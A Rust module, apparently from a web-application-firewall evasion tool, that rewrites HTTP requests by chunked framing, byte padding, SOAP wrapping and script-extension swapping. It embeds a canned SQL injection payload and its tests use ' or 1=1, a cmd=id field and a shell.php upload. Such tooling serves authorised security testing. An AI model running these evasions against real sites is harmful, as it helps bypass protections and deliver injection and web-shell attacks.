//! Body framing and payload wrapping.

use rand::RngCore;

use crate::constants::{PADDING_LEN, SCRIPT_EXTENSIONS};
use crate::error::StrategyError;
use crate::request::{Body, Request};
use crate::strategies::body_text;
use crate::util::pick;

const SOAP_CONTENT_TYPE: &str = "application/octet-stream,text/xml";

/// Sent when there is no body to wrap.
const SOAP_CANNED_PAYLOAD: &str = "union select current_user, 2";

/// Re-frames the body as one-byte chunks, each chunk size followed by an empty `;`
/// extension, e.g. `1;\r\nc\r\n`.
pub fn chunked(request: &Request, _rng: &mut dyn RngCore) -> Result<Vec<Request>, StrategyError> {
    if !request.method().carries_body() {
        return Ok(vec![]);
    }
    let text = body_text(request, "chunked_encoding")?.unwrap_or_default();

    let mut framed = String::with_capacity(text.len() * 8 + 5);
    for c in text.chars() {
        framed.push_str(&format!("{:x};\r\n{c}\r\n", c.len_utf8()));
    }
    framed.push_str("0\r\n\r\n");

    let mut variant = request.clone();
    let headers = variant.headers_mut();
    headers.remove_ignore_case("Content-Length");
    headers.insert("Transfer-Encoding", "chunked");
    headers.insert("Protocol-Version", "HTTP/1.1");
    variant.set_body(Body::Text(framed));
    Ok(vec![variant])
}

/// Puts [`PADDING_LEN`] bytes of filler in front of the payload, since many WAFs only
/// inspect the first few kilobytes of a body.
///
/// File parts are padded when present; otherwise the body is. Form bodies get a leading
/// filler parameter so the real parameters keep their names.
pub fn padding(request: &Request, _rng: &mut dyn RngCore) -> Result<Vec<Request>, StrategyError> {
    let filler = "x".repeat(PADDING_LEN);
    let mut variant = request.clone();

    if !request.files().is_empty() {
        for part in variant.files_mut().values_mut() {
            let mut padded = filler.clone().into_bytes();
            padded.extend_from_slice(&part.content);
            part.content = padded;
        }
        return Ok(vec![variant]);
    }

    let body = match request.body() {
        Body::Empty => Body::Text(filler),
        Body::Text(text) => Body::Text(format!("{filler}{text}")),
        Body::Bytes(bytes) => {
            let mut padded = filler.into_bytes();
            padded.extend_from_slice(bytes);
            Body::Bytes(padded)
        }
        Body::Form(pairs) => Body::Form(
            std::iter::once(("padding".to_owned(), filler))
                .chain(pairs.iter().cloned())
                .collect(),
        ),
    };
    variant.set_body(body);
    Ok(vec![variant])
}

fn soap_envelope_for(payload: &str) -> String {
    format!(
        r#"<soapenv:envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:tem="http://tempuri.org/">
    <soapenv:header>
        <soapenv:body>
            <string>'{payload}#</string>
        </soapenv:body>
    </soapenv:header>
</soapenv:envelope>"#
    )
}

/// Wraps the body in a SOAP envelope declared with a combined octet-stream/XML media type.
pub fn soap_envelope(
    request: &Request,
    _rng: &mut dyn RngCore,
) -> Result<Vec<Request>, StrategyError> {
    let payload = body_text(request, "soap_envelope")?;
    let mut variant = request.clone();
    let headers = variant.headers_mut();
    headers.remove_ignore_case("Content-Type");
    headers.insert("Content-Type", SOAP_CONTENT_TYPE);
    variant.set_body(Body::Text(soap_envelope_for(
        payload.as_deref().unwrap_or(SOAP_CANNED_PAYLOAD),
    )));
    Ok(vec![variant])
}

/// Replaces `.php` with an alternative script extension in the body and in uploaded
/// filenames. Requests mentioning no `.php` are left out.
pub fn extension_swap(
    request: &Request,
    rng: &mut dyn RngCore,
) -> Result<Vec<Request>, StrategyError> {
    let text = match request.body() {
        Body::Text(_) | Body::Bytes(_) => body_text(request, "extension_swap")?,
        _ => None,
    };
    let in_body = text.as_deref().is_some_and(|text| text.contains(".php"));
    let in_files = request
        .files()
        .values()
        .any(|part| part.filename.contains(".php"));
    if !in_body && !in_files {
        return Ok(vec![]);
    }

    let replacement = format!(".{}", pick(SCRIPT_EXTENSIONS, rng));
    let mut variant = request.clone();
    if let (true, Some(text)) = (in_body, text) {
        variant.set_body(request.body().with_text_like(text.replace(".php", &replacement)));
    }
    if in_files {
        for part in variant.files_mut().values_mut() {
            part.filename = part.filename.replace(".php", &replacement);
        }
    }
    Ok(vec![variant])
}

#[cfg(test)]
mod tests {
    use rand::SeedableRng;
    use rand::rngs::StdRng;

    use super::*;
    use crate::request::{FilePart, Method};

    fn rng() -> StdRng {
        StdRng::seed_from_u64(8)
    }

    #[test]
    fn chunked_frames_every_character() {
        let request = Request::post("http://x/post")
            .with_header("Content-Length", "5")
            .with_body(Body::Text("a=1".into()));
        let variant = &chunked(&request, &mut rng()).unwrap()[0];
        assert_eq!(
            variant.body(),
            &Body::Text("1;\r\na\r\n1;\r\n=\r\n1;\r\n1\r\n0\r\n\r\n".into())
        );
        assert_eq!(variant.headers().get("Transfer-Encoding"), Some("chunked"));
        assert!(!variant.headers().contains("Content-Length"));
        assert!(chunked(&Request::get("http://x/"), &mut rng()).unwrap().is_empty());
    }

    #[test]
    fn chunked_empty_body_is_terminator_only() {
        let request = Request::new(Method::Put, "http://x/put");
        let variant = &chunked(&request, &mut rng()).unwrap()[0];
        assert_eq!(variant.body(), &Body::Text("0\r\n\r\n".into()));
    }

    #[test]
    fn padding_prefers_file_parts() {
        let request = Request::post("http://x/upload")
            .with_body(Body::Text("a=1".into()))
            .with_file("f", FilePart::new("a.php", "<?php"));
        let variant = &padding(&request, &mut rng()).unwrap()[0];
        assert_eq!(variant.body(), request.body());
        assert_eq!(variant.files()["f"].content.len(), PADDING_LEN + 5);
        assert!(variant.files()["f"].content.ends_with(b"<?php"));
        assert_eq!(request.files()["f"].content, b"<?php");
    }

    #[test]
    fn padding_keeps_form_parameters() {
        let request = Request::post("http://x/post")
            .with_body(Body::Form(vec![("cmd".into(), "id".into())]));
        let variant = &padding(&request, &mut rng()).unwrap()[0];
        let Body::Form(pairs) = variant.body() else {
            panic!("form body expected");
        };
        assert_eq!(pairs[0].1.len(), PADDING_LEN);
        assert_eq!(pairs[1], ("cmd".to_owned(), "id".to_owned()));
    }

    #[test]
    fn soap_wraps_the_body() {
        let request = Request::post("http://x/post").with_body(Body::Text("' or 1=1".into()));
        let variant = &soap_envelope(&request, &mut rng()).unwrap()[0];
        assert_eq!(variant.headers().get("Content-Type"), Some(SOAP_CONTENT_TYPE));
        let Body::Text(text) = variant.body() else {
            panic!("text body expected");
        };
        assert!(text.contains("<string>'' or 1=1#</string>"));
    }

    #[test]
    fn extension_swap_rewrites_filenames_and_body() {
        let request = Request::post("http://x/upload")
            .with_body(Body::Bytes(b"filename=\"shell.php\"".to_vec()))
            .with_file("f", FilePart::new("shell.php", "x"));
        let variant = &extension_swap(&request, &mut rng()).unwrap()[0];
        let filename = &variant.files()["f"].filename;
        assert!(filename.starts_with("shell."));
        assert_ne!(filename, "shell.php");
        let Body::Bytes(bytes) = variant.body() else {
            panic!("byte body expected");
        };
        assert_eq!(bytes, format!("filename=\"{filename}\"").as_bytes());
    }

    #[test]
    fn extension_swap_needs_a_php_extension() {
        let request = Request::post("http://x/").with_body(Body::Text("a=1".into()));
        assert!(extension_swap(&request, &mut rng()).unwrap().is_empty());
    }
}
